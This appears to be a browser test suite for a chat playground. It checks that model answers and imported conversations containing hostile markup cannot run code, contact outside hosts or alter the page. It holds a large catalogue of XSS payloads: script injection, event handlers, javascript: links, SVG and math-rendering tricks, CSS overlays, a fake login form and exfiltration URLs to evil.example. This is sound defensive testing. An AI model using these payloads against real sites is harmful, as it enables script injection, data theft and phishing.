"""Whatever a model says, it can neither run, nor send anything, nor change the page around it."""

from __future__ import annotations

import json
from typing import Any

import pytest
from playwright.async_api import Page, expect
from tests.browser.conftest import Visitor
from tests.browser.playground.acting import answers, ask, choose, finished

pytestmark = pytest.mark.asyncio(loop_scope="session")

EVIL = "https://evil.example"

ATTACKS = {
    "scripts": f"""
<script>window.ran = true</script>
<script src="{EVIL}/x.js"></script>
<SCRIPT/x>window.ran = true</SCRIPT>
x <script>window.ran = true</script> y
<template><script>window.ran = true</script></template>
<!--><script>window.ran = true</script>-->
<![CDATA[<script>window.ran = true</script>]]>
&lt;script&gt;window.ran = true&lt;/script&gt;
&#60;img src=x onerror=window.ran=true&#62;
""",
    "event handlers": """
<img src=x onerror="window.ran = true">
<body onload="window.ran = true">
<details open ontoggle="window.ran = true">x</details>
<input autofocus onfocus="window.ran = true">
<video><source onerror="window.ran = true"></video>
<div onpointerenter="window.ran = true" style="position:fixed;inset:0;z-index:9">x</div>
""",
    "addresses": f"""
[run](javascript:window.ran=true)
[run](JaVaScRiPt:window.ran=true)
[run](java&#10;script:window.ran=true)
[run](&#106;avascript:window.ran=true)
[run](data:text/html,<script>opener.ran=true</script>)
[run](vbscript:x) [run](blob:x) [run](file:///etc/passwd) [run](/unload) [run](//evil.example)
<javascript:window.ran=true>
<a href="javascript:window.ran=true">run</a>
<base href="{EVIL}/">
<meta http-equiv="refresh" content="0;url={EVIL}">
""",
    "pictures": f"""
![x]({EVIL}/?q=secret)
![x][y]
<img src="{EVIL}/a.png" srcset="{EVIL}/b.png 2x">
<picture><source srcset="{EVIL}/c.png"><img></picture>
![x](data:image/svg+xml,<svg onload=window.ran=true>)
<link rel="prefetch" href="{EVIL}/d"> <link rel="stylesheet" href="{EVIL}/e.css">
data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="window.ran=true"/>

[y]: {EVIL}/pixel.gif
""",
    "frames and forms": f"""
<iframe src="javascript:parent.ran=true"></iframe>
<iframe srcdoc="<script>parent.ran=true</script>"></iframe>
<object data="{EVIL}/x"></object> <embed src="{EVIL}/x"> <portal src="{EVIL}"></portal>
<form action="{EVIL}"><input name="key" autofocus><button>Log in</button></form>
<dialog open>You are logged out</dialog>
<button popovertarget="x">x</button><div id="x" popover>x</div>
""",
    "SVG and MathML": f"""
<svg onload="window.ran = true"><script>window.ran = true</script></svg>
<svg><use href="{EVIL}/x.svg#y"></use><image href="{EVIL}/x.png"/></svg>
<svg><animate onbegin="window.ran = true" attributeName="x" dur="1s"></svg>
<math><mtext></p><style><img src onerror=window.ran=true></style></mtext></math>
<math href="javascript:window.ran=true">x</math>

$\\href{{javascript:window.ran=true}}{{x}}$ $\\includegraphics{{{EVIL}/x.png}}$
$$\\htmlStyle{{position:fixed;inset:0}}{{x}} \\class{{shell}}{{x}} \\id{{app}}{{x}}$$
$$\\def\\a{{\\a\\a}}\\a$$
""",
    "styles": f"""
<style>body {{ display: none }} nav {{ background: url({EVIL}/x) }}</style>
<style>@import "{EVIL}/x.css";</style>
<div class="chat composer tabs shell" style="position: fixed; inset: 0">x</div>
<span class="unseen" id="announcements" role="alert">x</span>

$\\rule{{9999em}}{{9999em}}$ $\\kern-999em x$ $\\raise 999em x$ $\\color{{red}} x$ $\\Huge\\Huge x$

Z{chr(0x0300) * 300}{chr(0x0323) * 300} {chr(0x202E)}backwards

```x" style="position:fixed" onclick="window.ran = true" class="chat
code of no language
```

```html
<style>body {{ display: none }}</style><script>window.ran = true</script>
```

```css
body {{ background: url({EVIL}/x) }}
```
""",
    "nesting": "\n\n".join(
        [
            ">" * 3000,
            "\n".join(f"{' ' * 2 * depth}- x" for depth in range(150)),
            "*a **b " * 500,
            "[" * 1500,
            "<div>" * 3000,
            "$" + "{" * 400 + "x" + "}" * 400 + "$",
            "a." * 8000 + "@",
            "x" * 20_000,
            "|" + "a|" * 300 + "\n|" + "-|" * 300 + "\n" + "|b" * 300,
        ]
    ),
}
"""By what they try. Each has many ways, of which none may succeed."""

LOOK = """() => {
    const around = 'nav a, header, [role=tab], textarea, .composer button, .tools button, h1';
    const what = ['color', 'backgroundColor', 'backgroundImage', 'fontSize', 'display', 'position',
                  'visibility', 'opacity'];
    const found = [...document.querySelectorAll(around)].filter(each => !each.closest('article'));
    return [document.documentElement, document.body, ...found].map(
        element => {
            const style = getComputedStyle(element);
            const { x, y, width, height } = element.getBoundingClientRect();
            const middle = document.elementFromPoint(x + width / 2, y + height / 2);
            const covered = element !== document.documentElement && element !== document.body
                && !(element.contains(middle) || middle?.contains(element));
            return [element.localName, element.className, Math.round(x), Math.round(y),
                    Math.round(width), Math.round(height), covered,
                    ...what.map(name => style[name])];
        });
}"""
"""What is around the conversation, where it is, how it looks, and whether something covers it."""


async def look(page: Page) -> list[Any]:
    found = await page.evaluate(LOOK)
    assert len(found) > 15
    return list(found)


async def unfocused(page: Page) -> None:
    """Put focus and pointer where they change no look."""
    await page.evaluate("document.activeElement?.blur()")
    await page.mouse.move(700, 400)


@pytest.mark.parametrize("kind", ATTACKS)
async def test_nothing_of_an_answer_can_act(stage: Visitor, kind: str) -> None:
    page = await stage.open("#/playground")
    asked: list[str] = []
    page.context.on("request", lambda request: asked.append(request.url))
    page.context.on("page", lambda opened: asked.append(f"a new page: {opened.url}"))
    page.on("dialog", lambda dialog: asked.append(f"a dialog: {dialog.message}"))
    await page.add_init_script(
        "document.addEventListener('securitypolicyviolation',"
        " ({ blockedURI }) => (window.violated ??= []).push(blockedURI))"
    )
    await page.reload()
    await choose(page, "studio")
    await ask(page, "Say something harmless")  # so that all code for drawing is there
    await finished(page)
    await unfocused(page)
    before = await look(page)
    await ask(page, f"!everywhere {ATTACKS[kind]}")
    await finished(page, 2)
    answer = answers(page).last
    for summary in await answer.locator("summary").all():
        await summary.click()
    await expect(answer.locator("details[open]")).to_have_count(2)
    await expect(page.locator("#announcements")).to_contain_text("The answer failed")
    await unfocused(page)
    assert json.dumps(await look(page)) == json.dumps(before)
    forbidden = (
        "img, script, style, iframe, object, embed, form, svg image, video, link, [style*=fixed]"
    )
    await expect(answer.locator(forbidden)).to_have_count(0)
    outside = await page.evaluate(
        """() => [...document.querySelectorAll('article *')].flatMap(element =>
            element.getAttributeNames().filter(name => /^on|^srcdoc$|^formaction$/.test(name)))"""
    )
    assert outside == []
    for link in await answer.get_by_role("link").all():
        href = await link.get_attribute("href") or ""
        assert href.startswith(("https://", "http://", "mailto:")), href
        assert await link.get_attribute("rel") == "noopener noreferrer nofollow"
        assert await link.get_attribute("target") == "_blank"
    assert await page.evaluate("[window.ran, window.violated]") == [None, None]
    assert [url for url in asked if not url.startswith((stage.site.url, "data:", "blob:"))] == []


async def test_a_hostile_conversation_does_no_harm_when_it_is_imported(stage: Visitor) -> None:
    page = await stage.open("#/playground")
    asked: list[str] = []
    page.context.on("request", lambda request: asked.append(request.url))
    evil = "<img src=x onerror=window.ran=true>"
    message = {
        "role": "assistant",
        "id": "a",
        "parent": "",
        "model": evil,
        "text": evil,
        "note": evil,
        "state": "failed",
        "pictures": [f"{EVIL}/x.png", "javascript:window.ran=true", "data:text/html,x"],
        "calls": [{"name": evil, "arguments": evil}],
        "figures": {"finish": evil, "prompt": 1},
    }
    question = {**message, "role": "user", "id": "q", "parent": "a"}
    conversation = {"title": evil, "messages": [message, question], "shown": {"__proto__": "q"}}
    file = {"format": "hotbay conversations", "version": 1, "conversations": [conversation]}
    await page.get_by_role("button", name="Conversations").click()
    dialog = page.get_by_role("dialog")
    await dialog.get_by_label("File to import").set_input_files(
        {"name": "x.json", "mimeType": "text/json", "buffer": json.dumps(file).encode()}
    )
    await dialog.get_by_role("button", name=f"{evil} ").first.click()
    await expect(answers(page).get_by_text(evil).first).to_be_visible()
    await expect(page.locator("main").get_by_text("of a kind that is not shown")).to_have_count(4)
    await expect(page.locator("main img")).to_have_count(0)
    assert await page.evaluate("window.ran") is None
    assert [url for url in asked if not url.startswith(stage.site.url)] == []
